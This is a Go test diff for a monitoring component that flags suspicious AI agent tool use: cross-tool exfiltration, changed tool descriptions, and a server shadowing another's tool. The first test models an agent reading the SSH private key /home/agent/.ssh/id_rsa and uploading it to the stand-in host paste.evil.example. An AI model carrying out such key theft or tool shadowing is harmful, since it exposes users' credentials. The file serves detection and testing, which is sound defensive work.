@@ -69,7 +69,7 @@ func TestCrossToolExfiltration(t *testing.T) {
 	// The attack: a secret read by filesystem, then everything's
 	// gzip-file-as-resource (egress in its shipped profile) to a new host.
 	got, readTrace := h.invoke("filesystem", readFile("attack-1", "read_text_file", "/home/agent/.ssh/id_rsa"))
-	assert.Equal(t, []string{TypeNewPath}, typesOf(got), "the server's own novelty")
+	assert.Empty(t, got, "a new path of an agent tool is not reported by itself (agents.report_target_novelty)")
 	up := toolCall("attack-1", "gzip-file-as-resource", sandboxevent.ToolClassOther) // class from the shipped profile
 	up.TargetType, up.Target, up.Agent.ContentCaptured = sandboxevent.TargetHost, "paste.evil.example", true
 	got, upTrace := h.invoke("everything", up)
@@ -94,12 +94,18 @@ func TestCrossToolExfiltration(t *testing.T) {
 	got, _ = h.invoke("fetch", fetchURL("s2", "fetch", "api.example.com"))
 	assert.Empty(t, ofType(got, TypeCrossToolExfiltration))
 
-	// A usual read then a new host: new_destination for fetch, but no
-	// private read, so no chain.
+	// A usual read then a new host: no private read, so no chain (and a
+	// fetch tool's new host is not reported by itself).
 	h.invoke("filesystem", readFile("s3", "read_text_file", "/work/project/README.md"))
 	got, _ = h.invoke("fetch", fetchURL("s3", "fetch", "other.example.org"))
-	assert.Empty(t, ofType(got, TypeCrossToolExfiltration))
-	assert.Len(t, ofType(got, TypeNewDestination), 1)
+	assert.Empty(t, got)
+
+	// With agents.report_target_novelty the server's novelty is reported
+	// as for any extension.
+	h = newHarness(t, func(s *Settings) { agentSettings(s); s.Agents.ReportTargetNovelty = true })
+	learnAgent(t, h, 8)
+	got, _ = h.invoke("fetch", fetchURL("s4", "fetch", "other.example.org"))
+	assert.Equal(t, []string{TypeNewDestination}, typesOf(got))
 }
 
 // Spans of one session arrive in any order: an egress reported before
@@ -218,7 +224,9 @@ func TestToolDrift(t *testing.T) {
 	require.Len(t, dc, 1)
 	assert.Equal(t, "tools/list", dc[0].Target)
 
-	// One tool's description changed: reported once, then adopted.
+	// One tool's description changed: reported on each call that carries
+	// it (every attack trace reachable), while the learned one stays the
+	// reference (a description that flips back is not a change).
 	d := toolCall("d3", "lookup", sandboxevent.ToolClassRead)
 	d.Agent.DescriptionHash = 0x222
 	got, _ = h.invoke(srv, d)
@@ -226,6 +234,9 @@ func TestToolDrift(t *testing.T) {
 	require.Len(t, dc, 1)
 	assert.Equal(t, "lookup", dc[0].Target)
 	assert.Contains(t, dc[0].Observed, "0000000000000222")
+	got, _ = h.invoke(srv, d)
+	assert.Len(t, ofType(got, TypeToolDescriptionChanged), 1)
+	d.Agent.DescriptionHash = 0x111
 	got, _ = h.invoke(srv, d)
 	assert.Empty(t, got)
 
@@ -304,8 +315,11 @@ func TestToolShadowing(t *testing.T) {
 	assert.Equal(t, "read_text_file", sh[0].Target)
 	assert.Equal(t, tid, sh[0].TraceID)
 	assert.Contains(t, sh[0].Observed, "filesystem")
-	// Reported once per (agent, tool, server).
+	// Each call of the shadowing server is reported (dedup folds them in
+	// production); a name of its own is not shadowing.
 	got, _ = h.invoke("helpful-server", toolCall("sh", "read_text_file", sandboxevent.ToolClassRead))
+	assert.Len(t, ofType(got, TypeToolShadowing), 1)
+	got, _ = h.invoke("helpful-server", toolCall("sh", "helper", sandboxevent.ToolClassOther))
 	assert.Empty(t, ofType(got, TypeToolShadowing))
 }
 
